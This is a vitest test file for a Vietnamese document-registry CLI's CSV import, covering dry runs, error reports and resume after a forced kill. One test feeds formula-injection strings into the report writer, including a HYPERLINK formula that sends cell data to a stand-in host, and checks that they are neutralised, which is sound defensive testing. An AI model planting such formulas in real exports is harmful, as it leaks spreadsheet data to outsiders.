import { execFile, spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN } from '../../test/processes.ts';
import { createTestDatabase, TEST_DB, testConfig, type TestDatabase } from '../../test/test-context.ts';
import { createContext, type AppContext } from '../platform/context.ts';
import { generateRegister } from '../modules/import/import.fixtures.ts';
import { reportCsv } from './import-commands.ts';
import { seedDemo } from '../modules/seed/seed.ts';

const execFileP = promisify(execFile);

/**
 * `vanphong import incoming` as the operator runs it: a real process on a real database of the engine
 * under test. The resume test kills the process (SIGKILL) once about half the rows are in and runs
 * the same command again. The suite uses IMPORT_KILL_ROWS rows (default 600, to keep `npm test`
 * short on PostgreSQL); bench/import-resume.mjs runs the 10,000-row case and measures rows/s.
 */
const KILL_ROWS = Number(process.env.IMPORT_KILL_ROWS ?? 600);

describe(`vanphong import incoming on ${TEST_DB}`, { timeout: 300_000 }, () => {
  let db: TestDatabase;
  let ctx: AppContext;
  let dir: string;
  const env = () => ({ ...process.env, NODE_ENV: 'test', DATA_DIR: db.dataDir, DATABASE_URL: db.url });
  const vanphong = async (args: string[]) => {
    try {
      const r = await execFileP(process.execPath, [BIN, ...args], { env: env(), maxBuffer: 64 * 1024 * 1024 });
      return { code: 0, out: r.stdout, err: r.stderr };
    } catch (e) {
      const x = e as { code: number; stdout: string; stderr: string };
      return { code: x.code, out: x.stdout, err: x.stderr };
    }
  };
  const countOf = async (table: 'incoming_documents' | 'audit_events' | 'import_rows' | 'files') =>
    Number((await ctx.db.selectFrom(table).select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);

  beforeAll(async () => {
    db = await createTestDatabase();
    ctx = await createContext({ config: testConfig(db) });
    await seedDemo(ctx, { nodeEnv: 'test' });
    dir = fs.mkdtempSync(path.join(db.dataDir, 'import-'));
  });
  afterAll(async () => {
    await ctx.close();
    await db.drop();
  });

  it('--dry-run prints each row and writes nothing; the real run writes the report and exits 1 on failed rows', async () => {
    const file = path.join(dir, 'nho.csv');
    fs.writeFileSync(
      file,
      '\uFEFFNgày đến,Tác giả,"Số, ký hiệu",Ngày văn bản,Trích yếu\r\n' +
        '02/01/2025,Văn phòng Trung ương Đảng,701-CV/VPTW,30/12/2024,V/v một\r\n' +
        '03/01/2025,Văn phòng Trung ương Đảng,702-CV/VPTW,hôm qua,V/v hai\r\n',
    );
    const before = [await countOf('incoming_documents'), await countOf('audit_events'), await countOf('import_rows')];
    const dry = await vanphong(['import', 'incoming', file, '--as', 'vanthu', '--dry-run']);
    expect(dry.code).toBe(1);
    expect(dry.out).toContain('Dòng 2: sẽ vào «Sổ đăng ký văn bản đến 2025» số đến 1 ngày 2025-01-02 — 701-CV/VPTW');
    expect(dry.out).toContain('Dòng 3: LỖI [Ngày văn bản] Ngày không hợp lệ: «hôm qua»');
    expect(dry.out).toContain('Chạy thử (--dry-run), không ghi gì: lô «nho.csv» (CSV utf-8-bom) → Tỉnh ủy Hồng Lam');
    // Nothing written but the batch's two audit events, marked as a dry run.
    expect([await countOf('incoming_documents'), await countOf('audit_events'), await countOf('import_rows')]).toEqual([before[0], before[1]! + 2, before[2]]);
    const batchEvents = await ctx.db.selectFrom('audit_events').select(['action', 'actor_name', 'details']).where('entity_type', '=', 'import_batch').orderBy('seq').execute();
    expect(batchEvents.map((e) => [e.action, JSON.parse(e.details).dryRun])).toEqual([
      ['import.started', true],
      ['import.finished', true],
    ]);
    expect(batchEvents[0]!.actor_name).toMatch(/^cli:.+ as vanthu$/);

    const report = path.join(dir, 'bao-cao.csv');
    const real = await vanphong(['import', 'incoming', file, '--as', 'vanthu', '--report', report]);
    expect(real.code).toBe(1);
    expect(real.out).toContain('Tổng 2 dòng: vào sổ 1, bỏ qua (đã nhập trước) 0, lỗi 1, cảnh báo 0.');
    // January 2025 is more than 31 days ago: the row is filed (lưu), not left in the clerk's queue.
    expect(real.out).toContain('Trong đó 1 văn bản đã lưu');
    const filed = await ctx.db.selectFrom('incoming_documents').select('status').where('notation', '=', '701-CV/VPTW').executeTakeFirstOrThrow();
    expect(filed.status).toBe('filed');
    expect(real.out).toContain(`Báo cáo từng dòng: ${report}`);
    expect(real.err).toContain('Đã xử lý 2/2 dòng: vào sổ 1, bỏ qua 0, lỗi 1');
    expect(fs.readFileSync(report, 'utf8')).toBe(
      '\uFEFFDòng,Cột,Nội dung,Mức\r\n3,Ngày văn bản,"Ngày không hợp lệ: «hôm qua» (viết ngày/tháng/năm, ví dụ 05/03/2024).",lỗi\r\n',
    );
    const audit = await ctx.db.selectFrom('audit_events').select('actor_name').where('action', '=', 'incoming.registered').orderBy('seq', 'desc').executeTakeFirstOrThrow();
    expect(audit.actor_name).toMatch(/^cli:.+ as vanthu$/);
    expect((await vanphong(['import', 'incoming', path.join(dir, 'khong-co.csv'), '--as', 'vanthu'])).code).toBe(2);
    const badStatus = await vanphong(['import', 'incoming', file, '--as', 'vanthu', '--status', 'done']);
    expect(badStatus.code).toBe(2);
    expect(badStatus.err).toContain('--status is filed or registered');
  });

  it('--status registered leaves old rows open', async () => {
    const file = path.join(dir, 'mo.csv');
    fs.writeFileSync(file, 'Ngày đến,Tác giả,"Số, ký hiệu",Ngày văn bản,Trích yếu\n05/02/2025,Sở Nội vụ,88-CV/SNV,03/02/2025,V/v để mở\n');
    const r = await vanphong(['import', 'incoming', file, '--as', 'vanthu', '--status', 'registered']);
    expect(r.code, r.err).toBe(0);
    expect(r.out).not.toContain('đã lưu');
    const doc = await ctx.db.selectFrom('incoming_documents').select('status').where('notation', '=', '88-CV/SNV').executeTakeFirstOrThrow();
    expect(doc.status).toBe('registered');
  });

  it('the report neutralises cells a spreadsheet would run as formulas', () => {
    const row = (field: string, message: string) => ({
      rowNumber: 7,
      status: 'failed' as const,
      incomingId: null,
      filed: false,
      registerName: null,
      arrivalNumber: null,
      arrivalDate: null,
      notation: '',
      errors: [{ field, message }],
      warnings: [],
    });
    const csv = reportCsv([
      row('=HYPERLINK("http://x/?"&A1)', '+1'),
      row('-2+3', '@SUM(A1:A9)'),
      row('\tTab', '\r=1'),
      row('Trích yếu', 'Số 5 - hợp lệ = bình thường'),
    ]);
    expect(csv.split('\r\n').slice(1, -1)).toEqual([
      `7,"'=HYPERLINK(""http://x/?""&A1)",'+1,lỗi`,
      `7,'-2+3,'@SUM(A1:A9),lỗi`,
      `7,'\tTab,"'\r=1",lỗi`,
      '7,Trích yếu,Số 5 - hợp lệ = bình thường,lỗi',
    ]);
  });

  it(`killed (SIGKILL) half way through ${KILL_ROWS} rows and started again, it registers each row exactly once`, async () => {
    const g = generateRegister({ rows: KILL_ROWS, year: 2024, fileEvery: 50, distinctFiles: 4 });
    const file = path.join(dir, 'so-den-2024.csv');
    const filesDir = path.join(dir, 'tep');
    fs.writeFileSync(file, g.csv);
    fs.mkdirSync(filesDir);
    for (const f of g.files) {
      fs.writeFileSync(path.join(filesDir, f.name), f.bytes);
    }
    const args = ['import', 'incoming', file, '--as', 'vanthu', '--files', filesDir, '--chunk', '20'];
    const batchDone = async () =>
      Number(
        (await ctx.db.selectFrom('import_rows').select((eb) => eb.fn.countAll().as('n')).where('batch_key', '=', 'so-den-2024.csv').where('status', '=', 'done').executeTakeFirstOrThrow()).n,
      );

    const child = spawn(process.execPath, [BIN, ...args], { env: env(), stdio: ['ignore', 'pipe', 'pipe'] });
    let output = '';
    child.stdout.on('data', (d) => (output += d));
    child.stderr.on('data', (d) => (output += d));
    const exited = new Promise<NodeJS.Signals | number | null>((resolve) => child.on('exit', (code, signal) => resolve(signal ?? code)));
    for (;;) {
      if (child.exitCode !== null) {
        throw new Error(`the import ended before it could be killed: ${output}`);
      }
      if ((await batchDone()) >= KILL_ROWS / 2) {
        child.kill('SIGKILL');
        break;
      }
      await new Promise((r) => setTimeout(r, 25));
    }
    expect(await exited).toBe('SIGKILL');

    // Killed mid-way: part of the rows is in, and every registered document is marked, and only those.
    const inAfterKill = await batchDone();
    expect(inAfterKill).toBeGreaterThanOrEqual(KILL_ROWS / 2);
    expect(inAfterKill).toBeLessThan(KILL_ROWS);
    const docsOf2024 = () =>
      ctx.db
        .selectFrom('incoming_documents')
        .innerJoin('incoming_registers', 'incoming_registers.id', 'incoming_documents.register_id')
        .select(['incoming_documents.id', 'notation', 'arrival_number', 'attachment_count'])
        .where('incoming_registers.year', '=', 2024)
        .orderBy('arrival_number')
        .execute();
    expect((await docsOf2024()).length).toBe(inAfterKill);

    const again = await vanphong(args);
    expect(again.code, again.err).toBe(0);
    expect(again.out).toContain(`bỏ qua (đã nhập trước) ${inAfterKill.toLocaleString('vi-VN')}, lỗi 0`);

    const docs = await docsOf2024();
    expect(docs).toHaveLength(KILL_ROWS);
    // Each row once, in file order, numbered 1…N without gap or duplicate.
    expect(docs.map((d) => [d.arrival_number, d.notation])).toEqual(Array.from({ length: KILL_ROWS }, (_, i) => [i + 1, g.notation(i)]));
    const ledger = await ctx.db.selectFrom('import_rows').select(['status', 'incoming_id']).where('batch_key', '=', 'so-den-2024.csv').execute();
    expect(ledger.every((r) => r.status === 'done')).toBe(true);
    expect(new Set(ledger.map((r) => r.incoming_id))).toEqual(new Set(docs.map((d) => d.id)));
    // Attachments: one file row per attached row (never one left over from the killed chunk), each blob once on disk.
    const withFile = docs.filter((d) => d.attachment_count > 0);
    expect(withFile).toHaveLength(Math.ceil(KILL_ROWS / 50));
    const attached = await ctx.db
      .selectFrom('incoming_attachments')
      .innerJoin('files', 'files.id', 'incoming_attachments.file_id')
      .select(['files.sha256'])
      .where('incoming_attachments.document_id', 'in', withFile.map((d) => d.id))
      .execute();
    expect(attached).toHaveLength(withFile.length);
    const orphans = await ctx.db
      .selectFrom('files')
      .leftJoin('incoming_attachments', 'incoming_attachments.file_id', 'files.id')
      .select('files.id')
      .where('incoming_attachments.file_id', 'is', null)
      .where('files.original_name', 'like', 'van-ban-%')
      .execute();
    expect(orphans).toEqual([]);
    const shas = new Set(attached.map((a) => a.sha256));
    expect(shas.size).toBe(g.files.length);
    for (const sha of shas) {
      expect(fs.existsSync(path.join(db.dataDir, 'files', sha.slice(0, 2), sha.slice(2, 4), sha))).toBe(true);
    }
    // The audit chain survived the kill.
    const verify = await vanphong(['audit', 'verify']);
    expect(verify.out).toContain('Audit chain intact');
  });
});
